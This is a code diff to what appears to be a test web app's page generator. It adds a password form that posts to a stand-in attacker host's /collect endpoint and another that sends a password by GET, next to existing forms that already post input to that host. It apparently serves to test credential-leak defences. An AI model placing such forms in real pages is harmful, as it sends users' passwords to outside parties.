@@ -209,6 +209,7 @@ def _account(state: State, query: dict[str, str]) -> str:
 <button id=email-go>Save</button></form>
 <form method=post action=/account/password id=password-form>
 <label>Secret <input type=password name=password id=password></label><button id=password-go>Save</button></form>
+<form action=/search id=echo-form><input type=password name=q id=echo-password><button id=echo-go>Show</button></form>
 <form method=post action=/account/visibility id=visibility-form><label>Who sees it
 <select name=visibility id=visibility onchange='this.form.submit()'><option>private<option>public</select></label>
 </form>
@@ -273,6 +274,8 @@ def _partners(attacker: str) -> str:
         f"<form action='{attacker}/collect' method=post><input name=q id=framed><button id=framed-go>OK</button></form>"
     )
     return f"""<h1>Partners</h1>
+<form method=post action='{attacker}/collect' id=away-in><input type=password name=p id=away-password>
+<button id=away-password-go>OK</button></form>
 <form method=post action='{attacker}/collect' id=away><input name=q id=away-q aria-label='Your code'>
 <button id=away-go>OK</button></form>
 <form action='{attacker}/find' id=away-get><input type=search name=q id=away-s><button id=away-s-go>Find</button></form>
